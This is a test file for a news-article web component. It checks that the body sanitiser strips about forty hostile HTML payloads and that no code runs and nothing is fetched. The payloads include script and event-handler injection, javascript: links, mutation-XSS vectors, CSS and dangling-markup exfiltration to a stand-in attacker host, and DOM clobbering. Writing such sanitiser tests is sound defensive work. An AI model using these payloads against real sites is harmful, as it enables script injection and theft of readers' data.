import {expect, fixture, html} from '@open-wc/testing';
import '../../src/elements/news-article/define.js';
import {ArticleBody} from '../../src/elements/news-article/article-body.js';
import {cleanBody} from '../../src/elements/news-article/clean-body.js';
import {bodyLink, bodyPicture} from '../../src/elements/news-article/pictures.js';
import {storyView} from '../../src/elements/news-article/story-view.js';
import {vi} from '../../src/locale/vi.js';
import type {NewsArticle} from '../../src/elements/news-article/news-article.js';
import {article as story, wholeArticle} from '../support/fake-api/news-content.js';
import {hosted} from '../support/view-host.js';
import {json, replaceNetwork} from '../support/network.js';
import {drawn, one, shadowText} from '../support/widget.js';

const ATTACKER = 'https://attacker.test';
/** Calls this when it runs; also asks the attacker's server, which no page may reach. */
const RUN = `window.attacked('ran')`;

/** Bodies that have run something, somewhere, in one parser or sanitiser or another. */
const HOSTILE: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${ATTACKER}/a.js"></script>`,
  'script in pieces': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  onerror: `<img src="data:," onerror="${RUN}">`,
  'onerror with a slash': `<img/src="data:,"/onerror=${RUN}>`,
  onload: `<body onload="${RUN}"><svg onload="${RUN}"></svg>`,
  'javascript link': `<a href="javascript:${RUN}">x</a>`,
  'javascript link with bytes': `<a href="\u0001 jav&#x09;ascript&colon;${RUN}">x</a>`,
  'vbscript link': `<a href="vbscript:${RUN}">x</a>`,
  'data link': `<a href="data:text/html,<script>opener.attacked('ran')</script>">x</a>`,
  'blob link': `<a href="blob:${ATTACKER}/1">x</a>`,
  srcdoc: `<iframe srcdoc="<script>parent.attacked('ran')</script>"></iframe>`,
  'frame from elsewhere': `<iframe src="${ATTACKER}/f"></iframe><frameset><frame src="${ATTACKER}/f"></frameset>`,
  object: `<object data="${ATTACKER}/o"></object><embed src="${ATTACKER}/e"><applet code="x"></applet>`,
  'SVG script': `<svg><script>${RUN}</script></svg>`,
  'SVG animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}" /><text y="20">x</text></a></svg>`,
  'SVG use': `<svg><use href="${ATTACKER}/s.svg#a"></use><image href="${ATTACKER}/i.png" /></svg>`,
  foreignObject: `<svg><foreignObject><img src="data:," onerror="${RUN}"></foreignObject></svg>`,
  MathML: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  'mXSS by style in MathML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror=${RUN}&gt;">`,
  'mXSS by noscript': `<noscript><p title="</noscript><img src=data:, onerror=${RUN}>"></noscript>`,
  'mXSS by textarea': `<svg><textarea><style><img title="</textarea><img src=data:, onerror=${RUN}>"></style></textarea></svg>`,
  'mXSS by form': `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src=data:,>">`,
  'mXSS by template': `<template><s><template><s><img src="data:," onerror="${RUN}">@</s></template></s></template>`,
  'CSS exfiltration': `<style>@import '${ATTACKER}/c.css'; * {background: url(${ATTACKER}/b)}</style><p style="background:url(${ATTACKER}/p)">x</p>`,
  'style sheet': `<link rel="stylesheet" href="${ATTACKER}/l.css"><link rel="preload" as="image" href="${ATTACKER}/l.png">`,
  'dangling markup': `<img src='${ATTACKER}/?taken=<p>the rest of the page</p>'>`,
  'unclosed dangling markup': `<p>x</p><img src='${ATTACKER}/?taken=<p>the rest`,
  'counter of one pixel': `<img src="${ATTACKER}/c.gif" width="1" height="1">`,
  'other sources of pictures': `<picture><source srcset="${ATTACKER}/s.png"></picture><img srcset="${ATTACKER}/t.png 1x" alt="">`,
  media: `<video src="${ATTACKER}/v" poster="${ATTACKER}/p" onerror="${RUN}"></video><audio src="${ATTACKER}/a"></audio>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=javascript:${RUN}"><base href="${ATTACKER}/">`,
  'form and focus': `<form action="javascript:${RUN}"><input autofocus onfocus="${RUN}"><button formaction="javascript:${RUN}">x</button></form>`,
  'details toggle': `<details open ontoggle="${RUN}">x</details>`,
  'DOM clobbering': `<form id="body"><input name="attributes"><img name="firstChild" src="data:,"></form><a id="document" href="cid:x">x</a>`,
  'custom element': `<news-article api="${ATTACKER}/" article="x"></news-article><slot name="x" onslotchange="${RUN}"></slot>`,
  'declarative shadow root': `<div><template shadowrootmode="open"><script>${RUN}</script><img src="data:," onerror="${RUN}"></template></div>`,
  ping: `<a href="https://congan.danvan.test/" ping="${ATTACKER}/ping" target="_top" onclick="${RUN}">x</a>`,
};

const FINE =
  'p, h1, h2, h3, h4, h5, h6, ul, ol, li, blockquote, figure, figcaption, table, caption, thead, tbody, tfoot, tr, td, th, a, em, strong, sub, sup, br, img, div.scroll, span.picture-box, span.missing, span.missing > *';
const FINE_ATTRIBUTES = [
  'href',
  'rel',
  'class',
  'src',
  'alt',
  'width',
  'height',
  'loading',
  'decoding',
  'referrerpolicy',
  'colspan',
  'rowspan',
  'scope',
  'start',
  'tabindex',
  'role',
  'aria-label',
  'aria-hidden',
  'viewBox',
];

const PARTS = {
  level: 2,
  tableLabel: 'Bảng',
  link: (href: string) => bodyLink(href, 'https://api.danvan.test/'),
  picture: (image: Element) => bodyPicture(image, 'https://api.danvan.test/'),
};

function cleaned(markup: string): string {
  const box = document.createElement('div');
  box.append(cleanBody(markup, PARTS));
  return box.innerHTML;
}

async function showBody(body_html: string): Promise<NewsArticle> {
  const network = replaceNetwork(() =>
    Promise.resolve(json({...wholeArticle(story(0), 'default'), image: null, body_html})),
  );
  try {
    const box = await fixture<HTMLElement>(html`<div></div>`);
    const widget = document.createElement('news-article');
    widget.api = 'https://api.danvan.test/body/';
    widget.article = 'tin-so-1';
    widget.show = 'date';
    box.append(widget);
    await drawn(widget, 'ready');
    return widget;
  } finally {
    network.restore();
  }
}

describe('the body of a story', () => {
  const attacks: string[] = [];
  const onViolation = ({blockedURI}: SecurityPolicyViolationEvent) => attacks.push(blockedURI);
  const watch = new PerformanceObserver((list) =>
    attacks.push(...list.getEntries().flatMap(({name}) => (name.startsWith(ATTACKER) ? [name] : []))),
  );

  before(() => {
    Object.assign(window, {attacked: (what: string) => attacks.push(what)});
    document.addEventListener('securitypolicyviolation', onViolation);
    watch.observe({type: 'resource'});
  });
  after(() => {
    document.removeEventListener('securitypolicyviolation', onViolation);
    watch.disconnect();
  });
  beforeEach(() => {
    attacks.length = 0;
  });

  for (const [name, body] of Object.entries(HOSTILE)) {
    it(`runs and fetches nothing, whatever stands in it: ${name}`, async () => {
      const widget = await showBody(`<p>Trước.</p>${body}<p>Sau.</p>`);
      const drawnBody = one(widget, '.body');
      for (const part of drawnBody.querySelectorAll('*')) {
        expect(part.matches(FINE), part.outerHTML).to.equal(true);
        for (const attribute of part.getAttributeNames()) expect(FINE_ATTRIBUTES, part.outerHTML).to.include(attribute);
      }
      for (const link of drawnBody.querySelectorAll('a')) {
        expect(['https:', 'tel:', 'mailto:']).to.include(link.protocol);
        // what a reader would do; the page itself stays
        link.addEventListener('click', (event) => event.preventDefault());
        link.click();
      }
      for (const image of drawnBody.querySelectorAll('img')) expect(image.src).to.not.include('attacker');
      expect(drawnBody.textContent).to.include('Trước.');
      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
      expect(attacks).to.deep.equal([]);
    });
  }

  it('keeps what the contract promises', () => {
    const body =
      '<p>Một <strong>hai</strong> <em>ba</em><br>bốn H<sub>2</sub>O m<sup>2</sup></p><ul><li>x</li></ul>' +
      '<ol start="3"><li>y</li></ol><blockquote><p>z</p></blockquote>';
    expect(cleaned(body)).to.equal(body);
  });

  it('makes old markup plain', () => {
    expect(
      cleaned(
        '<center><font color="red" size="5"><b>Một</b> <i>hai</i></font></center><div align="right">Ba</div>Bốn<p align="center">&nbsp;</p>',
      ),
    ).to.equal('<p><strong>Một</strong> <em>hai</em></p><p>Ba</p><p>Bốn</p>');
  });

  it('lets links lead to the web, a telephone and a mailbox, and to nothing else', () => {
    const href = (address: string) => /href="([^"]*)"/.exec(cleaned(`<p><a href="${address}">x</a></p>`))?.[1];
    expect(href('/huong-dan')).to.equal('https://api.danvan.test/huong-dan');
    expect(href('tel:113')).to.equal('tel:113');
    expect(href('mailto:truc-ban@congan.test')).to.equal('mailto:truc-ban@congan.test');
    for (const address of [
      'mailto:a@b.test?bcc=c@d.test',
      '#muc-1',
      'ftp://x.test/',
      'https://user:secret@x.test/',
      'sms:113',
    ]) {
      expect(href(address), address).to.equal(undefined);
    }
    expect(cleaned('<p><a href="https://x.test/" target="_top" rel="opener">x</a></p>')).to.include(
      'rel="nofollow noopener"',
    );
  });

  it('keeps the spans of a table within reason', () => {
    const table = cleaned(
      '<table><tbody><tr><td colspan="2" rowspan="1000000" width="900">x</td><th scope="evil">y</th></tr></tbody></table>',
    );
    expect(table).to.include('<td colspan="2">x</td><th>y</th>');
  });

  it('gives the lead and the way to the original when what cleans the body cannot be had, and the body once it can', async () => {
    const whole = wholeArticle(story(0), 'default');
    const base = 'https://api.danvan.test/';
    let isReachable = false;
    const host = await hosted((it_) => {
      const body = new ArticleBody(it_, () =>
        isReachable ? Promise.resolve(cleanBody) : Promise.reject(new TypeError('gone')),
      );
      return () => {
        body.prepare();
        if (!body.isReady) return 'waiting';
        const drawn_ = body.draw(whole, {base, level: 2, tableLabel: ''});
        const view = {words: vi, language: 'vi', base, title: 'x', level: 2, oldAfter: 1, documentHref: ''} as const;
        return storyView(whole, {...view, show: new Set(), drawn: drawn_, retryBody: body.retry});
      };
    });
    await drawn(host, () => shadowText(host).includes('Chưa hiển thị được toàn văn'));
    expect(shadowText(host)).to.include('Người dân cần bình tĩnh').and.not.include('Gần đây, một số người dân');
    expect(one<HTMLAnchorElement>(host, '.no-body a').href).to.equal(whole.source_url);
    isReachable = true;
    one(host, '.no-body button').click();
    await drawn(host, () => shadowText(host).includes('Gần đây, một số người dân'));
    host.remove();
  });
});
